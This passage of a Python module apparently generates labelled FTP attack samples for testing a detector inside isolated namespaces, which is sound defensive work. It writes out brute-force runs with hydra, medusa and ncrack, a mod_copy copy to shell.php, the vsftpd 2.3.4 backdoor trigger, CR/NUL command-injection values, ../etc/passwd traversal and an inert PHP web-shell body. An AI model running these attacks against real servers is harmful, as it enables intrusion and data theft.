"""The samples of attacks on FTP.  Imported by record.py, whose helpers they share.

`findings` of their truth files are the rules that what was set up here must raise.  They were
not taken from a capture or from the output of any program that reads one.  Nothing here does
harm: programs, web shells and stolen passwords are a few bytes that do nothing, and everything
happens in namespaces without a way out.
"""
import contextlib
import ftplib
import os
import re
import socket
import struct
import subprocess
import time
import zlib

from __main__ import (
    CSV, HOME, INWARD, PASSWORD, PEER4, PNG, SERVER4, TXT, USER, WORK, Child, Proftpd, PureFtpd, Pyftpdlib,
    Vsftpd, client, connect, csv, curl, fetch, home, lftp, local, noise, on_client, on_server, read, run, sample, send, sh,
    text)
from record_failures import SERVERS4, Failing, leave, say

FOREIGN = "peer"        # the namespace of 198.51.100.22


class Recorded(Failing):
    """A failing sample's kin: nothing need fail here."""

    def log_in(self, user, login, **more):
        self.truth["sessions"].append({"user": user, "login": login, **more})

    def logged_sessions(self, server):
        """Sessions as the server's log has them."""
        for user, login in sessions_of(server):
            self.log_in(user, login)

    def logged_transfers(self, server, body, **paths):
        """The transfers in the order of a vsftpd's log; `body(path)` reads the receiving side's disk."""
        for line in server.log().splitlines():
            if m := re.search(r'FTP command: Client "[^"]*", "(RETR|STOR|APPE) (.*)"$', line):
                command, name = m.groups()
            elif m := re.search(r'OK (?:DOWNLOAD|UPLOAD|APPEND): Client "[^"]*", "([^"]*)"', line):
                self.transfer(command, name, m.group(1), body(m.group(1)))
            elif re.search(r'FTP command: Client "[^"]*", "(LIST|NLST|MLSD)', line):
                self.truth["listings"] += 1


def sessions_of(server):
    """(user, login) of each control connection, in the order in which they were taken."""
    if server.program == "vsftpd":
        return vsftpd_sessions(server.log())
    if server.program == "proftpd":
        return proftpd_sessions(server)
    return list(pyftpdlib_sessions(server).values())


def vsftpd_sessions(log):
    # The process that greets a client reads its commands until it is logged in.
    found = {}
    for line in log.splitlines():
        pid = int(re.search(r"\[pid (\d+)\]", line).group(1))
        if " CONNECT: " in line:
            found[pid] = [None, "none"]
        elif pid not in found:
            continue
        elif m := re.search(r'FTP command: .*, "USER (.*)"$', line):
            found[pid] = [m.group(1), "incomplete"]
        elif re.search(r'FTP command: .*, "PASS', line):
            found[pid][1] = "accepted"      # unless refused by the next line
        elif re.search(r'FTP response: .*, "530', line) and found[pid][0]:
            found[pid][1] = "refused"
    return [found[pid] for pid in sorted(found)]


# A log of who said what, for proftpd_sessions.
PEOPLE_LOG = 'LogFormat people "%P %m %s %J"\nExtendedLog {}/log/people ALL people'.format(WORK)


def proftpd_sessions(server):
    opened = re.findall(r"proftpd\[(\d+)\].*FTP session opened", open(server.folder + "/system").read())
    found = {int(pid): [None, "none"] for pid in opened}
    for line in open(WORK + "/log/people", errors="replace"):
        pid, verb, code, argument = (line.rstrip("\n").split(" ", 3) + [""])[:4]
        if verb == "USER":
            found[int(pid)] = [argument, "incomplete"]
        elif verb == "PASS":
            found[int(pid)][1] = "accepted" if code == "230" else "refused"
    return [found[pid] for pid in sorted(found)]


def pyftpdlib_sessions(server):
    """By the client's address and port."""
    found = {}
    for line in open(server.folder + "/log", errors="replace"):
        m = re.match(r"([\d.]+:\d+)-\[[^\]]*\] (.*)", line)
        if not m:
            continue
        who, said = m.groups()
        if said.startswith("FTP session opened"):
            found[who] = [None, "none"]
        elif said.startswith("<- USER "):
            found[who] = [said[8:], "incomplete"]
        elif re.match(r"-> 230", said):
            found[who][1] = "accepted"
        elif re.match(r"-> 530", said) and found[who][0]:
            found[who][1] = "refused"
    return found


class Open(Pyftpdlib):
    """pyftpdlib with users of its own: name -> password, rights; and perhaps anonymous."""

    def __init__(self, users=(), anonymous=None, **more):
        super().__init__(**more)
        self.users, self.anonymous = dict(users), anonymous

    def admit(self, people):
        for name, password in self.users.items():
            people.add_user(name, password, HOME, perm="elradfmwMT")
        if self.anonymous:
            import warnings
            warnings.simplefilter("ignore")
            people.add_anonymous(HOME, perm=self.anonymous)


@contextlib.contextmanager
def accounts(**people):
    """More users on the server's machine, at home where the lab user is."""
    kept = {f: read("/etc/" + f) for f in ("passwd", "shadow")}
    try:
        for name, password in people.items():
            hashed = subprocess.run(["openssl", "passwd", "-6", "-salt", "ftplab", password], check=True, capture_output=True,
                                    text=True).stdout.strip()
            rows = {"passwd": f"{name}:x:4321:4321:lab user:{HOME}:/bin/sh\n", "shadow": f"{name}:{hashed}:19000:0:99999:7:::\n"}
            for f, row in rows.items():
                # Written in place: it is a mount of its own.
                lines = [l for l in open("/etc/" + f) if not l.startswith(name + ":")]
                with open("/etc/" + f, "w") as out:
                    out.write("".join(lines) + row)
        yield
    finally:
        for f, body in kept.items():
            with open("/etc/" + f, "wb") as out:
                out.write(body)


@contextlib.contextmanager
def addresses(space, *more):
    """More addresses for a side."""
    for a in more:
        sh(f"ip -n {space} addr add {a}/24 dev eth0")
    try:
        yield
    finally:
        for a in more:
            sh(f"ip -n {space} addr del {a}/24 dev eth0")


def words(name, lines):
    local(name, "".join(l + "\n" for l in lines).encode())


GUESSES = ["123456", "password", "qwerty", "letmein", "dragon", "monkey", "football", "iloveyou", "sunshine", "princess",
           "welcome1", PASSWORD]
PEOPLE = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]


# -- passwords

@sample()
def attack_hydra():
    home({})
    server = Vsftpd()
    with Recorded("attack-hydra", "Hydra with four connections guesses the password of one user from a list of twelve, the last "
                  "of which is right", server, ["hydra"], ["password-guessing", "login-after-failures"], options=["hydra -t 4"],
                  interface="s0") as s:
        words("passwords", GUESSES)
        run("hydra", "-I", "-t", "4", "-l", USER, "-P", "passwords", f"ftp://{SERVER4}", ns=FOREIGN)
        time.sleep(2)
        s.logged_sessions(server)


@sample()
def attack_parallel():
    home({})
    server = Open({USER: PASSWORD})
    with Recorded("attack-parallel", "Hydra as it is by default, all twelve passwords at the same time; the server answers the "
                  "right one at once and the wrong ones a second later, so the login comes before the refusals",
                  server, ["hydra"], ["password-guessing"], interface="s0") as s:
        words("passwords", GUESSES)
        run("hydra", "-I", "-l", USER, "-P", "passwords", f"ftp://{SERVER4}", ns=FOREIGN)
        time.sleep(2)
        s.logged_sessions(server)


@sample()
def attack_medusa():
    home({})
    server = Vsftpd()
    with Recorded("attack-medusa", "Medusa guesses the password of one user from a list of twelve, the last of which is right",
                  server, ["medusa"], ["password-guessing", "login-after-failures"], interface="s0") as s:
        words("passwords", GUESSES)
        run("medusa", "-h", SERVER4, "-u", USER, "-P", "passwords", "-M", "ftp", ns=FOREIGN)
        time.sleep(2)
        s.logged_sessions(server)


@sample()
def attack_ncrack():
    home({})
    server = Vsftpd()
    with Recorded("attack-ncrack", "Ncrack guesses the password of one user from a list of twelve, the last of which is right",
                  server, ["ncrack"], ["password-guessing", "login-after-failures"], interface="s0") as s:
        words("passwords", GUESSES)
        words("users", [USER])
        run("ncrack", "-U", "users", "-P", "passwords", f"ftp://{SERVER4}", ns=FOREIGN)
        time.sleep(2)
        s.logged_sessions(server)


@sample()
def attack_spraying():
    home({})
    server = Open({u: "right-" + u for u in PEOPLE[:-2]} | {PEOPLE[-2]: "Summer2024!"})
    with Recorded("attack-spraying", "Hydra tries one password with eight users, one of whom has it",
                  server, ["hydra"], ["password-spraying"], interface="s0") as s:
        words("users", PEOPLE)
        run("hydra", "-I", "-L", "users", "-p", "Summer2024!", f"ftp://{SERVER4}", ns=FOREIGN)
        time.sleep(2)
        s.logged_sessions(server)


@sample()
def attack_weak():
    home({"config.txt": text(3)})
    server = Open({"admin": "admin", "root": "root"})
    with Recorded("attack-weak", "Logins whose password is the user's name, one of them as root", server, ["curl"],
                  ["weak-credentials", "privileged-login"], interface="s0") as s:
        for user in "admin", "root":
            run("curl", "-sS", "--disable-epsv", "-u", f"{user}:{user}", f"ftp://{SERVER4}/config.txt", "-o", user, ns=FOREIGN)
            s.log_in(user, "accepted")
            s.down("config.txt", user)


# -- anonymous

@sample()
def attack_nmap_anon():
    home({"pub/readme.txt": text(4), "hello.txt": TXT})
    server = Open(anonymous="elr")
    with Recorded("attack-nmap-anon", "Nmap looks at port 21: it connects, then its script ftp-anon logs in as anonymous and "
                  "lists; it connects again, and its script ftp-syst asks SYST and STAT without a login", server,
                  ["nmap"], ["anonymous-login", "client-tool"], options=["nmap -sT -p21 --script ftp-anon; --script ftp-syst"],
                  interface="s0") as s:
        for script in "ftp-anon", "ftp-syst":
            run("nmap", "-n", "-Pn", "-sT", "-p21", "--script", script, SERVER4, ns=FOREIGN)
            s.log_in(None, "none")      # is the port open?
            s.log_in(*(("anonymous", "accepted") if script == "ftp-anon" else (None, "none")))
        s.truth["listings"] = sum(c.split()[0] in ("LIST", "NLST", "MLSD") for c in server.commands())


@sample()
def attack_anonymous_write():
    home({"incoming/.keep": b"", "readme.txt": text(2)})
    with Recorded("attack-anonymous-write", "Anonymous makes a directory, writes a file into it and deletes another one",
                  Open(anonymous="elradfmwMT"), ["ftplib"], ["anonymous-login", "anonymous-write"], interface="s0") as s:
        local("drop.bin", noise("drop", 4000))
        client(anonymous_writer, ns=FOREIGN)
        s.session(user="anonymous")
        s.up("drop.bin", "incoming/here/drop.bin", path="/incoming/here/drop.bin")


def anonymous_writer():
    ftp = connect(login=False)
    ftp.login()
    ftp.pwd()
    ftp.mkd("incoming/here")
    ftp.cwd("incoming/here")
    send(ftp, "drop.bin", "STOR drop.bin")
    ftp.delete("/readme.txt")
    leave(ftp)


# -- scans

@sample()
def attack_banner_scan():
    home({})
    hosts = ["203.0.113.%d" % i for i in range(21, 46)]
    servers = [Vsftpd(), Proftpd(host=SERVERS4[1]), PureFtpd(21, SERVERS4[2]), Open(host="203.0.113.30"), Open(host="203.0.113.41")]
    with addresses("server", *hosts[4:]), Recorded(
            "attack-banner-scan", "Nmap asks 25 addresses for the banner of an FTP server; five have one, the others refuse",
            servers, ["nmap"], ["banner-scan"], options=["nmap -sT -p21 --script banner"], interface="s0") as s:
        said = run_text("nmap", "-n", "-Pn", "-sT", "-p21", "--max-retries", "0", "--script", "banner", *hosts, ns=FOREIGN)
        assert said.count("21/tcp open") == 5 and said.count("21/tcp closed") == 20, said
        # A connection to each, and one more for the banner where there is a server.
        for _ in range(30):
            s.log_in(None, "none")


def run_text(*argv, ns="client", **more):
    run(*argv, ns=ns, **more)
    said = read(WORK + "/log/clients").decode(errors="replace")
    return said[said.rindex(repr(argv)):]


# -- bounces

@sample()
def attack_nmap_bounce():
    home({"hello.txt": TXT})
    server = Vsftpd(port_promiscuous="YES", connect_timeout=3)
    ports = "3306,5432,6379,8000,8080,8443,9100"
    listener = Child(FOREIGN, listen_on, (8000, 8443))
    time.sleep(0.5)
    try:
        with Recorded("attack-nmap-bounce", "Nmap makes the server connect to seven ports of a third host, of which two are open",
                      server, ["nmap"], ["bounce-attempt", "bounce-scan"], options=["nmap -b; vsftpd: port_promiscuous=YES"],
                      interface="s0") as s:
            said = run_text("nmap", "-n", "-Pn", "-p", ports, "-b", f"{USER}:{PASSWORD}@{SERVER4}", PEER4)
            assert "8000/tcp open" in said and "3306/tcp closed" in said, said
            s.logged_sessions(server)
            s.truth["listings"] = sum(c == "LIST" for c in server.commands())
    finally:
        listener.stop()


def listen_on(ports):
    import threading

    def take(port):
        hear = socket.create_server((PEER4, port))
        while True:
            hear.accept()[0].close()
    for port in ports:
        threading.Thread(target=take, args=(port,), daemon=True).start()
    time.sleep(3600)


@sample()
def attack_bounce_refused():
    home({"hello.txt": TXT})
    with Recorded("attack-bounce-refused", "Nmap's ftp-bounce and a client that asks for a third host's mail port: the server "
                  "allows neither", Open({USER: PASSWORD}, anonymous="elr"), ["nmap", "ftplib"], ["bounce-attempt"],
                  options=["nmap -sT -p21 --script ftp-bounce"], interface="s0") as s:
        run("nmap", "-n", "-Pn", "-sT", "-p21", "--script", "ftp-bounce", "--script-args", f"ftp-bounce.checkhost={PEER4}", SERVER4)
        client(mail_bouncer)
        s.log_in(None, "none")      # is the port open?
        s.log_in("anonymous", "accepted")
        s.session()


def mail_bouncer():
    ftp = connect()
    for c in "PORT 198,51,100,22,0,25", "EPRT |1|198.51.100.22|25|":
        assert say(ftp, c)[0] == "5"
    leave(ftp)


@sample()
def attack_fxp():
    home({"out/a-to-b.bin": noise("lftp-fxp", 9000), "in/.keep": b""})
    servers = [Vsftpd(pasv_promiscuous="YES", port_promiscuous="YES"),
               Proftpd(host=PEER4, ns="peer", extra="AllowForeignAddress on")]
    with Recorded("attack-fxp", "lftp makes two servers exchange a file; from all interfaces of the router, inward only",
                  servers, ["lftp"], ["site-to-site-transfer"], interface="any", args=INWARD) as s:
        s.checked = False
        run("lftp", "-e", f"debug -o {WORK}/log/fxp -t 9; get ftp://{USER}:{PASSWORD}@{SERVER4}/out/a-to-b.bin -o "
            f"ftp://{USER}:{PASSWORD}@{PEER4}/in/a-to-b.bin; bye")
        sent = re.findall(r"---> (\w+)(.*)", open(WORK + "/log/fxp").read())
        for _ in range(sum(verb == "PASS" for verb, _ in sent)):
            s.session()
        for verb, name in sent:
            if verb in ("RETR", "STOR"):
                folder = "/out/" if verb == "RETR" else "/in/"
                s.transfer(verb, name.strip(), folder + os.path.basename(name), on_server("in/a-to-b.bin"), fxp=True)
                s.truth["transfers"][-1]["direction"] = "site_to_site"
            s.truth["listings"] += verb in ("LIST", "NLST", "MLSD")


@sample()
def attack_steal():
    home({"payroll.csv": CSV, "hello.txt": TXT})
    for name, server, end in (
            ("attack-steal", Vsftpd(pasv_promiscuous="YES"), "comes about and ends without a byte"),
            ("attack-steal-closed", Open({USER: PASSWORD}, permit_foreign_addresses=True), "is refused")):
        with Recorded(name, f"Another host connects to the passive port before the client does, and gets the file; the client's own "
                      f"connection {end}", server, ["socket"], ["passive-connection-stolen"], interface="s0") as s:
            told, tell = os.pipe()
            done, finish = os.pipe()
            thief = Child(FOREIGN, steal, told, finish)
            victim = Child("client", robbed, tell, done)
            victim.result()
            thief.result()
            for end in told, tell, done, finish:
                os.close(end)
            s.session()
            s.down("payroll.csv", "stolen.csv", note="received by 198.51.100.22, not by the client")


def steal(told, finish):
    port = int(os.read(told, 10))       # in earnest it would be guessed
    data = socket.create_connection((SERVER4, port), 5)
    os.write(finish, b"x")
    with open("stolen.csv", "wb") as f:
        while block := data.recv(8192):
            f.write(block)
    data.close()


def robbed(tell, done):
    ftp = connect(pwd=True)
    ftp.voidcmd("TYPE I")
    where = ftplib.parse227(ftp.sendcmd("PASV"))
    os.write(tell, b"%d" % where[1])
    os.read(done, 1)
    ftp.putcmd("RETR payroll.csv")
    with contextlib.suppress(OSError):
        data = socket.create_connection(where, 2)
        data.settimeout(2)
        assert not data.recv(100)
    for _ in range(2):
        ftp.getmultiline()
    leave(ftp)


# -- encryption given up

def tls_extra(name, *more):
    return "\n".join(["TLSEngine on", "TLSProtocol TLSv1.2", "TLSRequired off", f"TLSRSACertificateFile {WORK}/cert.pem",
                      f"TLSRSACertificateKeyFile {WORK}/key.pem", f"TLSLog {WORK}/log/{name}", *more])


@sample()
def attack_prot_c():
    home({"secret.txt": TXT})
    with Recorded("attack-prot-c", "AUTH TLS, then PROT C: the control connection is encrypted, and the listing and the file go "
                  "in the clear", Proftpd(modules=["mod_tls"], extra=tls_extra("prot-c")), ["lftp"], []) as s:
        lftp("set ssl:verify-certificate no; set ftp:ssl-force yes; set ftp:ssl-protect-data no; set ftp:ssl-protect-list no; "
             "ls; get secret.txt")
        s.session("encrypted", None, hidden_user=USER, tls="TLS 1.2")
        s.transfer("RETR", "secret.txt", "/secret.txt", on_client("secret.txt"), to="hidden_transfers",
                   note="its command is encrypted; its data is not")
        s.truth["hidden_listings"] = 1
        s.truth["hidden_findings"] = ["protection-dropped"]
        s.truth["note"] = ("PROT C is encrypted.  Visible: data connections between the two hosts, in the clear, while the control "
                           "connection is encrypted")


@sample()
def attack_ccc():
    home({"secret.txt": TXT})
    with Recorded("attack-ccc", "AUTH TLS, PROT C, and CCC after the login: the control connection goes on in the clear, and so "
                  "does the data", Proftpd(modules=["mod_tls"], extra=tls_extra("ccc")), ["curl"], ["protection-dropped"]) as s:
        curl("-k", "--disable-epsv", "--ftp-ssl-control", "--ftp-ssl-ccc", "--ftp-ssl-ccc-mode", "active",
             f"ftp://{SERVER4}/secret.txt", "-o", "secret.txt")
        s.session("encrypted", None, hidden_user=USER, tls="TLS 1.2")
        s.down("secret.txt")


# -- holes

@sample()
def attack_mod_copy():
    home({"welcome.txt": text(2), "htdocs/index.html": b"<html></html>\n"})
    server = Proftpd(modules=["mod_copy"], extra="CopyEngine on")
    with Recorded("attack-mod-copy", "SITE CPFR and SITE CPTO: asked for without a login (refused), then after one: a file is "
                  "copied to a place where a web server would run it", server, ["socket"], ["mod-copy"],
                  options=["ProFTPD: mod_copy"], interface="s0") as s:
        said = client(copier, False, ns=FOREIGN) + client(copier, True, ns=FOREIGN)
        assert [r[:3] for r in said] == ["530", "530", "350", "250"], said
        s.log_in(None, "none", replies=said[:2])
        s.session(replies=said[2:])
        assert on_server("htdocs/shell.php") == on_server("welcome.txt")


def copier(logged_in):
    ftp = connect(login=logged_in)
    said = [say(ftp, "SITE CPFR welcome.txt"), say(ftp, "SITE CPTO htdocs/shell.php")]
    leave(ftp)
    return said


@sample()
def attack_site_exec():
    home({})
    servers = [Vsftpd(), Proftpd(host=SERVERS4[1]), PureFtpd(21, SERVERS4[2]), Open({USER: PASSWORD}, host=SERVERS4[3])]
    with Recorded("attack-site-exec", "SITE EXEC, with a program's name and with a format string, to four servers, none of which "
                  "has it", servers, ["socket"], ["site-exec"], interface="s0") as s:
        for host in SERVERS4:
            said = client(executor, host, ns=FOREIGN)
            assert all(r[0] == "5" for r in said), said
            s.session(server=host, replies=said)


def executor(host):
    ftp = connect(host)
    said = [say(ftp, "SITE EXEC /bin/id"), say(ftp, "SITE EXEC %p%p%p%p%n")]
    leave(ftp)
    return said


def wire(host, *pieces, wait=0.4):
    """Sends bytes as they are and takes what comes back; the last word is whether the server is still there."""
    s = socket.create_connection((host, 21))
    s.settimeout(wait)
    heard = b""
    for piece in (b"", *pieces):
        with contextlib.suppress(OSError):
            s.sendall(piece)
        time.sleep(0.05)
        with contextlib.suppress(OSError):
            while block := s.recv(8192):
                heard += block
    s.close()
    return heard.decode("latin-1")


LOGIN = (f"USER {USER}\r\n".encode(), f"PASS {PASSWORD}\r\n".encode())


@sample()
def attack_overlong():
    home({})
    servers = [Vsftpd(), Proftpd(host=SERVERS4[1])]
    with Recorded("attack-overlong", "A user's name of 600 bytes, and after a login a directory of 2000 bytes, to two servers",
                  servers, ["socket"], ["overlong-command"], interface="s0") as s:
        for host in SERVERS4[:2]:
            first = client(wire, host, b"USER " + b"A" * 600 + b"\r\n", b"PASS x\r\n", b"QUIT\r\n", ns=FOREIGN)
            second = client(wire, host, *LOGIN, b"PWD\r\n", b"CWD " + b"A" * 2000 + b"\r\n", b"QUIT\r\n", ns=FOREIGN)
            assert "230" in second
            s.log_in("A" * 600, "refused", server=host, replies=first.splitlines())
            s.session(server=host, replies=second.splitlines())


@sample()
def attack_telnet_overflow():
    home({})
    servers = [Vsftpd(), Proftpd(host=SERVERS4[1]), Open({USER: PASSWORD}, host=SERVERS4[2])]
    with Recorded("attack-telnet-overflow", "1500 bytes of Telnet's IAC (0xFF) before any login, to three servers", servers,
                  ["socket"], ["telnet-overflow"], interface="s0") as s:
        for host in SERVERS4[:3]:
            said = client(wire, host, b"\xff" * 1500 + b"\r\n", b"QUIT\r\n", ns=FOREIGN)
            s.log_in(None, "none", server=host, replies=said.splitlines())


def backdoored(host, has_shell):
    """Greets as the vsftpd with the back door did; the door is a line of text."""
    import threading

    def shell(door):
        s, _ = door.accept()
        door.close()
        with contextlib.suppress(OSError):
            for _ in s.makefile("rb"):
                s.sendall(b"uid=0(root) gid=0(root)\n")
        s.close()

    def talk(s):
        s.sendall(b"220 (vsFTPd 2.3.4)\r\n")
        for line in s.makefile("rb"):
            if line.startswith(b"USER"):
                if has_shell and b":)" in line:
                    door = socket.create_server((host, 6200))
                    threading.Thread(target=shell, args=(door,), daemon=True).start()
                s.sendall(b"331 Please specify the password.\r\n")
    hear = socket.create_server((host, 21))
    while True:
        s, _ = hear.accept()
        with contextlib.suppress(OSError):
            talk(s)
        s.close()


def knocker(host):
    s = socket.create_connection((host, 21))
    s.recv(200)
    s.sendall(b"USER letmein:)\r\n")
    s.recv(200)
    s.sendall(b"PASS please\r\n")
    time.sleep(1)
    try:
        door = socket.create_connection((host, 6200), 3)
        door.sendall(b"id\n")
        said = door.recv(200)
        time.sleep(0.2)
        door.close()
    except ConnectionRefusedError:
        said = None
    s.close()
    return said


@sample()
def attack_vsftpd_backdoor():
    home({})
    stubs = [Child("server", backdoored, SERVERS4[0], True), Child("server", backdoored, SERVERS4[1], False)]
    time.sleep(0.5)
    try:
        with Recorded("attack-vsftpd-backdoor", "The back door of vsftpd 2.3.4, with stubs that greet as it does: behind the first "
                      "one port 6200 opens and answers as root, behind the second one it is closed", [], ["socket"],
                      ["vsftpd-backdoor", "vulnerable-banner"], interface="s0") as s:
            said = [client(knocker, host, ns=FOREIGN) for host in SERVERS4[:2]]
            assert said == [b"uid=0(root) gid=0(root)\n", None], said
            for host in SERVERS4[:2]:
                s.log_in("letmein:)", "incomplete", server=host)
            s.truth["server"] = "a stub that greets as vsFTPd 2.3.4"
    finally:
        for stub in stubs:
            stub.stop()


@sample()
def attack_injection():
    home({"notes.txt": text(3), "page.php.jpg": PNG})
    servers = [Vsftpd(), Proftpd(host=SERVERS4[1]), Open({USER: PASSWORD}, host=SERVERS4[2])]
    with Recorded("attack-injection", "A lone CR, a NUL and a second command inside an argument, to three servers",
                  servers, ["socket"], ["command-injection"], interface="s0") as s:
        for host in SERVERS4[:3]:
            said = client(wire, host, *LOGIN, b"CWD docs\rDELE notes.txt\r\n", b"SIZE page.php\0.jpg\r\n",
                          b"MKD made\nDELE notes.txt\r\n", b"QUIT\r\n", ns=FOREIGN)
            assert "230" in said
            s.session(server=host, replies=said.splitlines())


@sample()
def attack_traversal():
    home({"hello.txt": TXT})
    fake = f"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/sh\n{USER}:x:4321:4321::{HOME}:/bin/sh\n".encode()
    servers = [Vsftpd(), Open({USER: PASSWORD}, host=SERVERS4[1]), Vsftpd(host=SERVERS4[2], chroot_local_user="NO")]
    kept = read("/etc/passwd")
    with open("/etc/passwd", "wb") as f:
        f.write(fake)
    try:
        with Recorded("attack-traversal", "Ways out of the user's home: two servers refuse them, the third one does not shut its "
                      "users in and hands /etc/passwd over", servers, ["ftplib"],
                      ["path-traversal", "sensitive-file"], options=["third server: chroot_local_user=NO"], interface="s0") as s:
            s.checked = False
            for host in SERVERS4[:3]:
                is_open = host == SERVERS4[2]
                said = client(climber, host, ns=FOREIGN)
                s.session(server=host, replies=said)
                for name, path in ("../../etc/passwd", "/etc/passwd"), ("/etc/passwd", "/etc/passwd"):
                    if is_open:
                        assert on_client("got" + name.replace("/", "_")) == fake
                        s.down(name, "got" + name.replace("/", "_"), path=path)
                    else:
                        s.refused(name, path=path)
    finally:
        with open("/etc/passwd", "wb") as f:
            f.write(kept)


def climber(host):
    ftp = connect(host, pwd=True)
    said = [say(ftp, "CWD ../../../etc")]
    if said[0][0] == "2":
        ftp.cwd(HOME)
    ftp.voidcmd("TYPE I")
    for name in "../../etc/passwd", "/etc/passwd":
        try:
            with open("got" + name.replace("/", "_"), "wb") as f:
                ftp.retrbinary("RETR " + name, f.write)
        except ftplib.Error as e:
            said.append(str(e))
    leave(ftp)
    return said


# -- files

def mz(seed, size=2000):
    """The head of a Windows program, and nothing that could run."""
    head = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x14C, 0) + bytes(16)
    return head + noise(seed, size)


def elf(seed, size=1500):
    """The head of a Linux program without a segment, and nothing that could run."""
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)
    return head + noise(seed, size)


# No request gets it to run anything.
PHP_SHELL = (b"<?php /* a sample: inert */ if (false) {\n  @eval(base64_decode($_POST['c']));\n  system($_GET['cmd']);\n}\n"
             b"echo 'nothing'; ?>\n")


def uploader(host, items, user=USER, password=PASSWORD):
    """Sends (file, name to send it as) one after another."""
    ftp = ftplib.FTP(timeout=20)
    ftp.connect(host)
    ftp.login(user, password)
    ftp.pwd()
    for disk, name in items:
        send(ftp, disk, "STOR " + name)
    leave(ftp)


@sample()
def attack_web_shell():
    home({"public_html/index.html": b"<html><p>lab</p></html>\n", "public_html/uploads/.keep": b""})
    with Recorded("attack-web-shell", "A single PHP file that runs what it is sent (here it runs nothing) is put into a web "
                  "server's folder, twice, once as an image", Vsftpd(), ["ftplib"], ["web-shell-upload"], interface="s0") as s:
        local("x.php", PHP_SHELL)
        local("x.jpg", b"GIF89a;\n" + PHP_SHELL)
        names = [("x.php", "public_html/x.php"), ("x.jpg", "public_html/uploads/logo.php.gif")]
        client(uploader, SERVER4, names, ns=FOREIGN)
        s.session()
        for _, name in names:
            s.up(name)


@sample()
def attack_executable():
    home({"tools/setup.exe": mz("setup"), "pictures/holiday.jpg": mz("holiday"), "pictures/dot.png": PNG})
    with Recorded("attack-executable", "Programs (their heads alone) are fetched by their name and as a picture, and sent as a "
                  "PDF's look-alike and without an extension", Vsftpd(), ["ftplib"],
                  ["executable-transfer", "type-mismatch", "deceptive-name"]) as s:
        local("bill", mz("bill"))
        local("agent", elf("agent"))
        client(fetch_and_send)
        s.session()
        for name in "tools/setup.exe", "pictures/holiday.jpg", "pictures/dot.png":
            s.down(name, os.path.basename(name))
        s.up("invoice.pdf.exe")
        s.up("agent")


def fetch_and_send():
    ftp = connect(pwd=True)
    for name in "tools/setup.exe", "pictures/holiday.jpg", "pictures/dot.png":
        fetch(ftp, name, os.path.basename(name))
    send(ftp, "bill", "STOR invoice.pdf.exe")
    send(ftp, "agent", "STOR agent")
    leave(ftp)


FAKE_KEY = (b"-----BEGIN OPENSSH PRIVATE KEY-----\n" + b"c2FtcGxlIHNhbXBsZSBzYW1wbGUgc2FtcGxlIHNhbXBsZSBzYW1wbGUgc2FtcGxlCg==\n" * 4
            + b"-----END OPENSSH PRIVATE KEY-----\n")
FAKE_CONFIG = (b"<?php\ndefine( 'DB_NAME', 'lab' );\ndefine( 'DB_USER', 'lab' );\ndefine( 'DB_PASSWORD', 'not-a-password' );\n"
               b"$table_prefix = 'wp_';\n")
FAKE_PASSWD = b"root:x:0:0:root:/root:/bin/sh\nlab:x:1000:1000::/home/lab:/bin/sh\n"


@sample()
def attack_sensitive():
    files = {"etc/passwd": FAKE_PASSWD, ".ssh/id_rsa": FAKE_KEY, "htdocs/wp-config.php": FAKE_CONFIG, "readme.txt": text(3)}
    home(files)
    with Recorded("attack-sensitive", "A list of users, a private key and a web application's configuration (all made up) are "
                  "fetched", Vsftpd(), ["curl"], ["sensitive-file"], interface="s0") as s:
        curl("--disable-epsv", *sum(([f"ftp://{SERVER4}/{n}", "-o", os.path.basename(n)] for n in files), []), ns=FOREIGN)
        s.session()
        for name in files:
            s.down(os.path.basename(name), path="/" + name)


@sample()
def attack_timestomp():
    home({"readme.txt": text(3)})
    servers = [Proftpd(), PureFtpd(21, SERVERS4[1]), Vsftpd(host=SERVERS4[2])]
    with Recorded("attack-timestomp", "A file is sent and its time is set years back: MFMT with two servers, MDTM with a time "
                  "with the third one", servers, ["ftplib"], ["timestomp"], interface="s0") as s:
        s.checked = False
        local("tool.bin", noise("tool.bin", 1500))
        for host, command in zip(SERVERS4, ("MFMT", "MFMT", "MDTM")):
            said = client(backdater, host, command, ns=FOREIGN)
            assert said[0] == "2", said
            assert os.path.getmtime(HOME + "/tool.bin") < 1577836800, said
            s.session(server=host, replies=[said])
            s.up("tool.bin")
            os.unlink(HOME + "/tool.bin")


def backdater(host, command):
    ftp = connect(host, pwd=True)
    send(ftp, "tool.bin", "STOR tool.bin")
    said = say(ftp, f"{command} 20190314092653 tool.bin")
    leave(ftp)
    return said


@sample()
def attack_mass_delete():
    names = ["report-%02d.csv" % i for i in range(1, 21)]
    home({"data/" + n: csv(5) for n in names})
    with Recorded("attack-mass-delete", "Twenty files of a folder are deleted one after another, then a note is left",
                  Vsftpd(), ["ftplib"], ["mass-delete"], interface="s0") as s:
        local("note.txt", b"All your files are gone. (A sample.)\n")
        client(deleter, names, ns=FOREIGN)
        s.session()
        s.up("READ_ME.txt", "data/READ_ME.txt", path="/data/READ_ME.txt")
        s.truth["listings"] = 1
        s.truth["deleted"] = ["/data/" + n for n in names]
        assert os.listdir(HOME + "/data") == ["READ_ME.txt"]


def deleter(names):
    ftp = connect(pwd=True)
    ftp.cwd("data")
    ftp.nlst()
    for n in names:
        ftp.delete(n)
    send(ftp, "note.txt", "STOR READ_ME.txt")
    leave(ftp)


@sample()
def attack_overwrite():
    home({"releases/tool-1.2.sh": b"#!/bin/sh\necho lab tool 1.2\n", "releases/prices.csv": csv(40)})
    with Recorded("attack-overwrite", "A table is listed, fetched, and another content is sent to the same name",
                  Vsftpd(), ["ftplib"], ["overwrite"], interface="s0") as s:
        local("changed.csv", csv(40).replace(b"reading 7", b"reading 9"))
        client(overwriter, ns=FOREIGN)
        s.session()
        s.down("prices.csv", path="/releases/prices.csv")
        s.up("prices.csv", "releases/prices.csv", path="/releases/prices.csv")
        s.truth["listings"] = 1


def overwriter():
    ftp = connect(pwd=True)
    ftp.cwd("releases")
    ftp.retrlines("LIST", lambda line: None)
    fetch(ftp, "prices.csv")
    time.sleep(1)
    send(ftp, "changed.csv", "STOR prices.csv")
    leave(ftp)


@sample()
def attack_mass_download():
